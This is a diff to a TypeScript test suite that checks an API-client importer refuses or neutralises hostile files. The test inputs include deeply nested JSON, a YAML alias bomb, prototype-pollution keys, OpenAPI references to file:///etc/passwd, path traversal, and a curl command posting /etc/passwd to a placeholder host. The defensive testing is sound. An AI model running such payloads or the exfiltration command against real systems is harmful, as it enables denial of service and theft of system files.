@@ -8,6 +8,7 @@ import { readChosen } from '../../electron/importers/read-chosen.ts';
 import { readText } from '../../electron/importers/read-text.ts';
 import { detectFormats } from '../../electron/importers/registry.ts';
 import { liftSecrets } from '../../electron/importers/secrets/lift-secrets.ts';
+import { holds } from '../support/holds.ts';
 
 const QUICK_MS = 5_000;
 const SCHEMA = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';
@@ -40,7 +41,7 @@ const collection = (item: unknown, more: object = {}) =>
   JSON.stringify({ info: { name: 'C', schema: SCHEMA }, item, ...more });
 
 describe('importing hostile files', () => {
-  it('refuses 100 MB fast', async () => {
+  it('refuses 100 MB fast', holds('import.sizes'), async () => {
     const bytes = Buffer.alloc(100_000_000, 0x20);
 
     expect(await within(QUICK_MS, () => importBytes(bytes))).toBe('import-too-large');
@@ -50,7 +51,7 @@ describe('importing hostile files', () => {
     ['lists in lists', () => `{"info":{},"item":${'['.repeat(10_000)}${']'.repeat(10_000)}}`],
     ['objects in objects', () => `{"a":`.repeat(10_000) + '1' + '}'.repeat(10_000)],
     ['open lists', () => '['.repeat(10_000_000)],
-  ])('refuses JSON of depth 10,000 fast: %s', async (_what, text) => {
+  ])('refuses JSON of depth 10,000 fast: %s', holds('import.sizes'), async (_what, text) => {
     expect(await within(QUICK_MS, () => importBytes(text()))).toBe('import-too-large');
   });
 
@@ -61,7 +62,7 @@ describe('importing hostile files', () => {
     expect(await importBytes(collection(item))).toBe('import-too-large');
   });
 
-  it('refuses a million items fast', async () => {
+  it('refuses a million items fast', holds('import.sizes'), async () => {
     const text = `{"info":{"name":"C","schema":"${SCHEMA}"},"item":[${'{},'.repeat(1_000_000)}{}]}`;
 
     expect(await within(QUICK_MS, () => importBytes(text))).toBe('import-too-large');
@@ -77,7 +78,7 @@ describe('importing hostile files', () => {
     expect(['import-not-readable', 'import-too-large', 'import-unknown-format']).toContain(result);
   });
 
-  it('refuses a YAML alias bomb fast', async () => {
+  it('refuses a YAML alias bomb fast', holds('import.sizes'), async () => {
     const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'];
     const lines = names.map((name, index) => {
       const inner = index === 0 ? 'x' : `*${names[index - 1] ?? ''}`;
@@ -106,12 +107,12 @@ describe('importing hostile files', () => {
     '{"info":{"name":"C","schema":"x"},"item":[],"__proto__":{"polluted":true}}',
     '{"info":{"name":"C","\\u005f_proto__":{"polluted":true}},"item":[]}',
     'openapi: 3.0.0\n__proto__:\n  polluted: true\n',
-  ])('refuses a prototype’s key: %s', async (text) => {
+  ])('refuses a prototype’s key: %s', holds('import.prototype'), async (text) => {
     expect(await importBytes(text)).toBe('import-not-readable');
     expect(Reflect.get({}, 'polluted')).toBeUndefined();
   });
 
-  it('takes names of what objects inherit for data', async () => {
+  it('takes names of what objects inherit for data', holds('import.prototype'), async () => {
     const environment = {
       name: 'E',
       values: [
@@ -129,30 +130,34 @@ describe('importing hostile files', () => {
     expect(await importBytes(JSON.stringify(openapi))).toMatchObject({ collections: [{ item: [] }] });
   });
 
-  it('follows no reference out of an OpenAPI file, and ends with references that go in a circle', async () => {
-    const schema = { $ref: '#/components/schemas/A' };
-    const text = JSON.stringify({
-      openapi: '3.1.0',
-      info: { title: 'T' },
-      paths: {
-        '/a': {
-          post: {
-            parameters: [{ $ref: 'file:///etc/passwd' }, { $ref: 'http://127.0.0.1:1/x' }],
-            requestBody: { content: { 'application/json': { schema } } },
+  it(
+    'follows no reference out of an OpenAPI file, and ends with references that go in a circle',
+    holds('import.inert'),
+    async () => {
+      const schema = { $ref: '#/components/schemas/A' };
+      const text = JSON.stringify({
+        openapi: '3.1.0',
+        info: { title: 'T' },
+        paths: {
+          '/a': {
+            post: {
+              parameters: [{ $ref: 'file:///etc/passwd' }, { $ref: 'http://127.0.0.1:1/x' }],
+              requestBody: { content: { 'application/json': { schema } } },
+            },
           },
+          '/b': { $ref: '#/paths/~1b' },
         },
-        '/b': { $ref: '#/paths/~1b' },
-      },
-      components: {
-        schemas: { A: { $ref: '#/components/schemas/B' }, B: { $ref: '#/components/schemas/A' } },
-      },
-    });
+        components: {
+          schemas: { A: { $ref: '#/components/schemas/B' }, B: { $ref: '#/components/schemas/A' } },
+        },
+      });
 
-    const result = await importBytes(text);
-    expect(typeof result === 'object' && result.notes.map(({ where }) => where)).toContain(
-      'file:///etc/passwd',
-    );
-  });
+      const result = await importBytes(text);
+      expect(typeof result === 'object' && result.notes.map(({ where }) => where)).toContain(
+        'file:///etc/passwd',
+      );
+    },
+  );
 
   it('makes examples of schemas that multiply each other within bounds', async () => {
     const names = Array.from({ length: 30 }, (_, index) => `S${index}`);
@@ -270,14 +275,18 @@ describe('importing hostile files', () => {
     expect(await importBytes(JSON.stringify(v1))).toMatchObject({ collections: [{ info: { name: 'C' } }] });
   });
 
-  it('keeps the name of a file that a body refers to, and never reads it', async () => {
-    const result = await importBytes('curl https://x.example -d @/etc/passwd');
+  it(
+    'keeps the name of a file that a body refers to, and never reads it',
+    holds('import.inert'),
+    async () => {
+      const result = await importBytes('curl https://x.example -d @/etc/passwd');
 
-    expect(result).toMatchObject({
-      collections: [{ item: [{ request: { body: { mode: 'file', file: { src: '/etc/passwd' } } } }] }],
-    });
-    expect(JSON.stringify(result)).not.toContain('root:');
-  });
+      expect(result).toMatchObject({
+        collections: [{ item: [{ request: { body: { mode: 'file', file: { src: '/etc/passwd' } } } }] }],
+      });
+      expect(JSON.stringify(result)).not.toContain('root:');
+    },
+  );
 });
 
 describe('importing a hostile folder', () => {
@@ -291,7 +300,7 @@ describe('importing a hostile folder', () => {
 
   const request = 'meta {\n  name: R\n}\n\nget {\n  url: https://x.example\n}\n';
 
-  it('follows no symbolic link, neither to a file nor to a folder', async () => {
+  it('follows no symbolic link, neither to a file nor to a folder', holds('import.inert'), async () => {
     const outside = join(folder, 'outside');
     const inside = join(folder, 'inside');
     await mkdir(outside);
@@ -310,16 +319,20 @@ describe('importing a hostile folder', () => {
     expect(read.value.notes.map(({ where }) => where).toSorted()).toEqual(['link.bru', 'linked']);
   });
 
-  it('takes a path with dots for the name of a folder, never for a way out', async () => {
-    const result = await importFiles([
-      { path: 'bruno.json', text: '{"name":"Farm"}' },
-      { path: '../../evil.bru', text: request },
-      { path: '__proto__/x.bru', text: request },
-    ]);
+  it(
+    'takes a path with dots for the name of a folder, never for a way out',
+    holds('import.inert'),
+    async () => {
+      const result = await importFiles([
+        { path: 'bruno.json', text: '{"name":"Farm"}' },
+        { path: '../../evil.bru', text: request },
+        { path: '__proto__/x.bru', text: request },
+      ]);
 
-    expect(result).toMatchObject({ collections: [{ info: { name: 'Farm' } }] });
-    expect(Reflect.get({}, 'folders')).toBeUndefined();
-  });
+      expect(result).toMatchObject({ collections: [{ info: { name: 'Farm' } }] });
+      expect(Reflect.get({}, 'folders')).toBeUndefined();
+    },
+  );
 
   it('refuses a folder with too many files, and one without any', async () => {
     expect(await readChosen([folder])).toMatchObject({ ok: false, error: { code: 'import-not-readable' } });
